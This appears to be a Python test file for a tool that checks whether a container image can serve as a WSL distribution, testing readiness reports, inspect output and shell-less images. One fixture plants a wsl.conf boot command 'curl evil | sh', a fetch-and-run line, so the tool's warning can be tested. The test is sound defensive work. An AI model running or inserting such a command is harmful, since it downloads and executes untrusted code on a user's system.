# SPDX-License-Identifier: MIT
import json

from decant import DecantTest, PREPARED
from oci_image import Layer, Layout


class ReadinessTest(DecantTest):
    """Can a person live in it? Said before anything is written."""

    def report(self, outcome):
        event, = [event for event in outcome.events() if event["event"] == "report"]
        return event

    def ids(self, report, severity):
        return [finding["id"] for finding in report["findings"]
                if finding["severity"] == severity]

    def test_debian_is_ready_and_what_it_lacks_is_only_noted(self):
        report = self.report(self.succeed("--json", "import", f"oci:{PREPARED}/layout:debian",
                                          "--name", "d1"))
        self.assertEqual(report["verdict"], "ready", report)
        self.assertEqual({finding["severity"] for finding in report["findings"]}, {"note"}, report)
        self.assertIn("no-sudo", self.ids(report, "note"))
        self.assertIn("setuid", self.ids(report, "note"))
        self.assertRegex(report["system"], "Debian|Ubuntu")
        for fact, value in (("libc", "glibc"), ("packageManager", "apt"), ("shell", "/bin/sh"),
                            ("systemd", False)):
            self.assertEqual(report[fact], value)

    def test_inspect_says_the_same_once_all_layers_are_here(self):
        debian = self.registry.name("lab/debian", "1")
        before = json.loads(self.succeed("--json", "inspect", debian).out)
        self.assertEqual(before["verdictStage"], "likely")
        self.assertNotIn("report", before)
        imported = self.report(self.succeed("--json", "save", debian, "--output",
                                            self.scratch / "out.tar"))
        after = json.loads(self.succeed("--json", "inspect", debian).out)
        self.assertEqual(after["verdictStage"], "checked")
        imported.pop("event")
        self.assertEqual(after["report"], imported)
        shown = self.succeed("inspect", debian).out
        self.assertIn("Works well as a distribution. (Checked, file by file.)", shown)

    def test_inspect_checks_a_folder_at_once(self):
        shown = json.loads(self.succeed("--json", "inspect", f"oci:{PREPARED}/layout:debian").out)
        self.assertEqual(shown["report"]["verdict"], "ready")

    def test_without_a_shell_import_stops_and_save_warns(self):
        layout = Layout(self.scratch / "image")
        layout.image("1", [layout.gzip_layer(Layer().file("app", b"x", mode=0o4755).tar())])
        source = f"oci:{layout.folder}:1"
        refused = self.run_decant("--quiet", "import", source, "--name", "d1")
        self.assertEqual(refused.status, 2, refused)
        self.assert_one_sentence(refused)
        self.assertIn("no shell", refused.err)
        self.assert_nothing_left()
        saved = self.succeed("save", source, "--output", self.scratch / "out.tar")
        self.assertRegex(saved.err, "(?m)^Warning: This image has no shell")

    def test_a_boot_command_is_said_before_it_runs(self):
        layout = Layout(self.scratch / "image")
        layer = Layer().file("bin/sh", b"#!", mode=0o755)
        layer.file("etc/wsl.conf", b"[boot]\ncommand=curl evil | sh\n")
        layout.image("1", [layout.gzip_layer(layer.tar())])
        done = self.succeed("import", f"oci:{layout.folder}:1", "--name", "d1")
        self.assertRegex(done.err, r"(?m)^Warning: .*curl evil \| sh")
